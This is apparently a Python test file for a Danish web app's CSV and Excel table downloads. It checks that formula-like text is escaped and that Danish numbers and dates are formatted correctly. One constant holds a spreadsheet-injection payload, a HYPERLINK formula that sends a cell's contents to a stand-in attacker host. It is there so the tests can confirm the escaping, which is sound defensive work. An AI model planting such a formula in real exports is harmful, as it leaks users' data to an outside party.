"""Table downloads (CSV and Excel) write formula-like text as text and keep numbers as numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from jobmaal.web.datatable import Column, DataTable, to_csv, to_xlsx

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


def table() -> DataTable:
    columns = [Column("name", "Navn"), Column("value", "Værdi", "pct")]
    return DataTable(name="proeve", title="Prøve\x01", columns=columns,
                     rows=[{"name": EVIL, "value": -3.5}, {"name": "@navn", "value": None}])


def test_csv_download_prefixes_formula_text_and_keeps_negative_numbers():
    rows = list(csv.reader(io.StringIO(to_csv(table(), plain=True).decode("utf-8-sig"))))
    assert rows == [["name", "value"], ["'" + EVIL, "-3.5"], ["'@navn", ""]]
    rows = list(csv.reader(io.StringIO(to_csv(table()).decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Navn", "Værdi"], ["'" + EVIL, "-3,5"], ["'@navn", ""]]


def test_danish_csv_rounds_as_the_page_and_says_hidden_yes_and_no_in_words():
    columns = [Column("name", "Navn"), Column("value", "Andel (pct.)", "pct"),
               Column("numerator", "Tæller", "count"), Column("change", "Ændring", "pp"),
               Column("period", "Periode", "period"), Column("suppressed", "Diskretioneret", "bool")]
    rows = [{"name": "Odense", "value": 54.349, "numerator": 12345.0, "change": -1.26, "period": "2023Q4",
             "suppressed": False},
            {"name": "Læsø", "value": None, "numerator": None, "change": None, "period": "2023H1",
             "suppressed": True}]
    text = to_csv(DataTable(name="t", title="T", columns=columns, rows=rows)).decode("utf-8")
    assert text.startswith("\ufeff")
    got = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert got == [["Navn", "Andel (pct.)", "Tæller", "Ændring", "Periode", "Diskretioneret"],
                   ["Odense", "54,3", "12345", "-1,3", "4. kvt. 2023", "nej"],
                   ["Læsø", "Diskretioneret", "Diskretioneret", "", "1. halvår 2023", "ja"]]


def test_excel_download_keeps_formula_text_as_text():
    sheet = load_workbook(io.BytesIO(to_xlsx(table()))).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}
    assert "Prøve" in cells  # the control character is gone
    assert cells[EVIL].data_type == "s" and cells[EVIL].quotePrefix
    assert cells["@navn"].quotePrefix
    assert cells[-3.5].data_type == "n"
